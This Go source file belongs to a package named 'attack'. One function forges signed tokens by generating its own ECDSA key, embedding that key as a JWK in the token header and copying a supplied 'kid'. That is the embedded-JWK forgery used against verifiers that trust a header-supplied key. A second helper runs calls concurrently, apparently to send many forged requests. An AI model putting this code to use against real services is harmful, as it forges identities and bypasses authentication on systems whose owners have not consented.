package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/base64"

	"github.com/go-jose/go-jose/v4"
	"golang.org/x/sync/errgroup"
)

// selfSigned signs claims with a key of its own, which the header shows as if that proved something.
func selfSigned(claims string, header map[string]any) (string, error) {
	payload, err := base64.RawURLEncoding.DecodeString(claims)
	if err != nil {
		return "", err
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	o := (&jose.SignerOptions{EmbedJWK: true}).WithHeader("kid", header["kid"])
	signer, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.ES256, Key: key}, o)
	if err != nil {
		return "", err
	}
	signed, err := signer.Sign(payload)
	if err != nil {
		return "", err
	}
	return signed.CompactSerialize()
}

// parallel calls do for each number below n, some at a time.
func parallel(ctx context.Context, at, n int, do func(i int)) error {
	var g errgroup.Group
	g.SetLimit(at)
	for i := range n {
		if ctx.Err() != nil {
			break
		}
		g.Go(func() error { do(i); return nil })
	}
	_ = g.Wait()
	return ctx.Err()
}
